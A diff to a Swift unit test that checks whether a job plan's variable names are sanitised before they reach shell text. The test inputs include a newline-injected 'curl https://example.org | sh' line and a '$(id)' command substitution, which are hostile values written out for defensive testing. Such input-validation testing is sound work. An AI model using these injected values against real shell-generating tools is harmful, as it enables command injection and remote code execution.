@@ -94,7 +94,9 @@ import Testing
 
     @Test func keysAreNamedAndNotHeld() {
         var jobs = jobs()
-        jobs.variables = ["MY_KEY"]
+        // A plan may come from someone else, and the text goes to a shell.
+        jobs.variables = ["X\ncurl https://example.org | sh\n#", "A B", "", "$(id)", "MY_KEY"]
+        #expect(jobs.variables == ["MY_KEY"])
         for calendar in StudyJobs.Calendar.allCases {
             #expect(jobs.text(for: calendar).contains("The jobs need MY_KEY: set it where they start"))
         }
